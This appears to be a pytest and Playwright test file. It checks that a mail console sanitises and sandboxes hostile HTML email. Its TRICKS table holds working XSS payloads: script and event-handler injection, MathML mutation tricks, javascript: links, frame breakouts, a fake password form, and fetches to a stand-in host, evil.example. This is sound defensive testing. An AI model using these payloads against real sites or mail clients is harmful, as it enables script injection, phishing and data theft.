"""Mail made to harm whoever reads it, shown in a room: in a real Chromium nothing runs or is fetched.

What is shown in the frame is the sanitised HTML under a policy that would hold if the sanitiser failed; one test takes
the sanitiser away to see that.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Frame, Page, Route

from muniment.people.route import Content
from muniment.site.headers import policy_of
from tests.answer import opened as rooms
from tests.answer.opened import Opened, letter, signed_in
from tests.house.tree import SHARED
from tests.site.console import Console, up

FIXTURES = SHARED / "data" / "mail" / "fixtures"
_LARGEST_BYTES, _MOST_FIXTURES = 200_000, 60
_EVIL = "https://evil.example"
# Each would set the title, ask the outside, or take the page away, if anything of it worked.
TRICKS = {
    "script": "<script>top.document.title='taken';fetch('EVIL/s')</script>",
    "handler": "<img src=x onerror=\"top.document.title='taken'\"><body onload=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><image href='EVIL/i.png'/></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>--></style></table>",
    "picture": "<img src='EVIL/pixel.gif?who=hr'><img srcset='EVIL/a.png 1x'><picture><source srcset='EVIL/b.png'>"
    "</picture><table background='EVIL/t.png'><tr><td>x</table>",
    "style": "<style>@import url('EVIL/x.css'); body{background:url(EVIL/bg.png)} @font-face{font-family:x;"
    "src:url(EVIL/f)}</style><p style=\"background:url('EVIL/p.png');font-family:x;position:fixed;inset:0\">x</p>",
    "link": "<link rel=stylesheet href='EVIL/l.css'><link rel=prefetch href='EVIL/p'><link rel=preload as=script "
    "href='EVIL/q'>",
    "meta": "<meta http-equiv=refresh content='0;url=EVIL/m'><base href='EVIL/'><a href='x' target=_top>go</a>",
    "form": "<form action='EVIL/f'><input name=password autofocus><button>Sign in again</button></form>",
    "frame": "<iframe src='EVIL/f'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    "<object data='EVIL/o'></object><embed src='EVIL/e'>"
    "<video src='EVIL/v' poster='EVIL/w' autoplay></video><audio src='EVIL/a'></audio>",
    "address": "<a href='javascript:alert(1)'>a</a><a href='data:text/html,<script>alert(1)</script>'>b</a>"
    '<a href="java\tscript:alert(1)">c</a>',
    "broken": "<scr<script>ipt>alert(1)</scr</script>ipt><img src=\"x` `<script>alert(1)</script>\"` `>",
    "breakout": "</body></html><script>alert(1)</script>'\"></iframe>"
    "<script>parent.document.title='taken'</script>",
}  # fmt: skip

# Nothing of these is left once they are made harmless, so only their text is shown.
SWALLOWED = {"mathml"}


def fixtures() -> dict[str, bytes]:
    """Return mail with HTML from the collections of other projects, as SMTP carries it; none where they are absent."""
    found = {}
    for path in sorted(FIXTURES.rglob("*")) if FIXTURES.is_dir() else ():
        if path.is_file() and path.stat().st_size < _LARGEST_BYTES:
            data = re.sub(rb"\r?\n|\r", b"\r\n", path.read_bytes())
            if b"text/html" in data.lower() and max(map(len, data.split(b"\r\n"))) < 990:
                found[path.relative_to(FIXTURES).as_posix()] = data
    step = max(1, len(found) // _MOST_FIXTURES)
    return dict(list(found.items())[::step])


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    with up(tmp_path_factory.mktemp("hostile")) as found:
        for name, html in TRICKS.items():
            sent = letter(f"trick-{name}", f"plain {name}\n", html.replace("EVIL", _EVIL) + "<p>the end</p>")
            found.send(name, sent)
        for name, data in fixtures().items():
            found.send(name, data, "outside")
        rooms.settle()
        yield found


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with rooms.browser() as found:
        yield found


@pytest.fixture(scope="module")
def room(console: Console, chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Opened:
    found = rooms.approved(console, tmp_path_factory.mktemp("approval"))
    with signed_in(chromium, console, "hr") as page:
        rooms.unlock(page, found)
        rooms.climb(page, found)
    return found


def addresses(page: Page, room: Opened, words: str = "") -> list[str]:
    """Return the address of every message a search finds, over all its pages."""
    rooms.search(page, room, words, "Every message, to see what it does")
    found: list[str] = []
    while True:
        links = page.get_by_role("link", name="Read the message").all()
        found += [str(link.get_attribute("href")) for link in links]
        older = page.get_by_role("link", name="Older", exact=True)
        if not older.count():
            return [room.console.address + each for each in found]
        older.click()


def laid_out(page: Page) -> Frame:
    """Return the frame with the message, once it is there."""
    page.locator("iframe").wait_for()
    frame = page.locator("iframe").element_handle().content_frame()
    assert frame is not None
    frame.wait_for_load_state()
    return frame


@pytest.mark.parametrize("name", TRICKS)
def test_nothing_runs_nothing_is_fetched_and_the_page_stays(
    chromium: Browser, room: Opened, name: str
) -> None:
    with signed_in(chromium, room.console, "hr") as page:
        (address,) = addresses(page, room, f"subject:trick-{name}")
        page.goto(f"{address}?face=html")
        page.wait_for_timeout(300)
        assert page.url == f"{address}?face=html"
        assert "taken" not in page.title()
        if page.locator("iframe").count() == 0:
            assert name in SWALLOWED, "nothing of it is left to lay out"
            return
        frame = laid_out(page)
        assert (
            frame.locator(
                "script, iframe, object, embed, form, link, meta[http-equiv], base, svg, math"
            ).count()
            == 0
        )
        assert frame.locator("[src^='http'], [srcset], [background], [onload], [onerror]").count() == 0
        page.goto(address)
        assert f"plain {name}" in page.locator("pre.letter").inner_text()


def test_every_fixture_is_shown_and_asks_for_nothing(chromium: Browser, room: Opened) -> None:
    with signed_in(chromium, room.console, "hr") as page:
        found = addresses(page, room)
        assert len(found) >= len(TRICKS)
        for address in found:
            answer = page.goto(address)
            assert answer is not None and answer.status == 200, address
            assert page.locator("h1").count() == 1
            link = page.get_by_role("link", name="As laid out")
            if link.count():
                link.click()
                assert laid_out(page).locator("script").count() == 0


def test_the_frame_has_an_origin_of_its_own_and_reads_nothing_of_the_console(
    chromium: Browser, room: Opened
) -> None:
    with signed_in(chromium, room.console, "hr") as page:
        (address,) = addresses(page, room, "subject:trick-script")
        page.goto(f"{address}?face=html")
        frame = laid_out(page)
        assert frame.evaluate("self.origin") == "null"
        for theft in ("document.cookie", "parent.document.title", "localStorage.length", "top.location.href"):
            assert frame.evaluate(
                f"(() => {{ try {{ return String({theft}) }} catch (e) {{ return e.name }} }})()"
            ) in ("SecurityError",), theft


def test_the_frame_holds_when_it_is_opened_on_its_own(chromium: Browser, room: Opened) -> None:
    with signed_in(chromium, room.console, "hr") as page:
        (address,) = addresses(page, room, "subject:trick-script")
        page.goto(f"{address}?face=html")
        source = page.locator("iframe").get_attribute("src")
        answer = page.goto(f"{room.console.address}{source}")
        assert answer is not None
        policy = answer.headers["content-security-policy"]
        assert "sandbox" in policy and "default-src 'none'" in policy and "script-src" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] == "no-store"
        assert page.evaluate("self.origin") == "null"


def answering(body: str, policy: str) -> Callable[[Route], None]:
    """Return what answers a request with a page under a policy."""

    def answer(route: Route) -> None:
        route.fulfill(body=body, content_type="text/html", headers={"Content-Security-Policy": policy})

    return answer


def test_were_the_sanitiser_to_fail_the_policies_alone_would_hold(chromium: Browser, room: Opened) -> None:
    tricks = "".join(TRICKS.values()).replace("EVIL", _EVIL)
    served = {
        "outer": ("<title>ours</title><iframe sandbox src=inner></iframe>", policy_of(Content.FRAMES)),
        "inner": (tricks, policy_of(Content.RECORDED)),
    }
    context, asked, loaded, stopped = chromium.new_context(), list[str](), list[str](), list[str]()
    try:
        page = context.new_page()
        context.on("request", lambda each: asked.append(each.url))
        context.on("requestfinished", lambda each: loaded.append(each.url))
        context.on("requestfailed", lambda each: stopped.append(each.url) if each.failure == "csp" else None)
        page.on("dialog", lambda dialog: asked.append(f"dialog: {dialog.message}"))
        for name, (body, policy) in served.items():
            page.route(f"{room.console.address}/{name}", answering(body, policy))
        page.goto(f"{room.console.address}/outer")
        page.wait_for_timeout(1000)
        ours = [f"{room.console.address}/outer", f"{room.console.address}/inner"]
        assert loaded == ours
        assert len(stopped) > 10, "the tricks did try"
        assert sorted(asked) == sorted([*ours, *stopped])
        assert page.title() == "ours"
    finally:
        context.close()
